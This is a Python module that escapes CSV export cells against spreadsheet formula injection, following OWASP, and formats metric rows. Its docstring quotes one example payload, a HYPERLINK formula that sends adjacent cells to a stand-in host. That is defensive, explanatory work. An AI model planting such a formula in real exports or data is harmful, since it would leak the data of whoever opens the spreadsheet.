"""CSV as kassa writes it for people to open in a spreadsheet: no cell can run as a formula.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and one that starts with a tab or a carriage return may be trimmed into one. A channel or campaign name
comes from an ad cabinet or a CRM, so whoever named a campaign ``=HYPERLINK("http://x.example/?"&A1)``
could make the owner's spreadsheet send the neighbouring cells away. As OWASP recommends
(https://owasp.org/www-community/attacks/CSV_Injection), such a *text* cell is written with a leading
single quote, which spreadsheets show as text and do not evaluate. Numbers stay numbers: ``-1200.5`` is a
number, not a formula, and only text is ever prefixed.

Every CSV export goes through here (``/channels.csv``, ``/channels/<channel>.csv``, ``kassa metrics
--csv``). The demo's input files (:mod:`kassa.demo.tables`) do not: they are data for ``kassa import``,
and a quote before ``+7…`` would change the phone numbers they carry.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

# What a spreadsheet may take for the start of a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet will not evaluate: text that starts like a formula gets a
    leading ``'``; numbers, ``None`` and other text are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def rows_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A header and rows as CSV text (``None`` as an empty cell), every text cell made safe."""
    out = io.StringIO()
    # CRLF (RFC 4180): the writer then also quotes a cell holding a bare carriage return.
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow(["" if v is None else safe_cell(v) for v in row])
    return out.getvalue()


# The trailing columns of a metric CSV: which of the row's metrics are estimates ("≈" elsewhere: a share
# of a whole-period report the period cuts) and which are incomplete (amounts without an exchange rate),
# as names separated by spaces, empty when none. Always present, so a script finds the same columns.
MARK_COLUMNS = ("estimated", "incomplete")


def marked_cells(row: Mapping[str, Any], keys: Sequence[str]) -> list[Any]:
    """A metric row in the JSON form (:func:`kassa.report.blocks.metric_row`) as CSV cells: the values of
    ``keys`` — numbers stay numbers; an incomplete metric gives its counted part (a lower bound), or
    nothing for a ratio with no bound — then the :data:`MARK_COLUMNS`."""
    incomplete = row.get("incomplete") or {}
    values = [incomplete[k].get("known") if k in incomplete else row.get(k) for k in keys]
    return [*values, " ".join(row.get("estimated") or ()), " ".join(incomplete)]
